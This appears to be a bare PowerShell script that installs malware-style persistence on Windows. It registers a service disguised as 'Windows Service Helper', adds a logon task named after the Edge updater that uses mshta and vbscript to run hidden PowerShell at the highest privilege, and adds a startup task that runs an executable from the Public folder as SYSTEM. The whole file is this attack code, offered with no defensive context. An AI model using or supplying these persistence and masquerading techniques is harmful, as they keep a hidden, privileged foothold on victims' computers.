$bin = 'C:\ProgramData\WinSvcHost\svchelper.exe'
New-Service -Name 'WinSvcHelper' -BinaryPathName "$bin -k netsvcs" -DisplayName 'Windows Service Helper' -StartupType Automatic | Out-Null
Start-Service -Name 'WinSvcHelper'

$action = New-ScheduledTaskAction -Execute 'mshta.exe' -Argument 'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -w hidden -f C:\ProgramData\WinSvcHost\u.ps1"", 0:close")'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskMachineUA' -Action $action -Trigger $trigger -RunLevel Highest -Force | Out-Null

schtasks.exe /create /tn "OneDrive Reporting" /tr "C:\Users\Public\od.exe" /sc onstart /ru SYSTEM /f
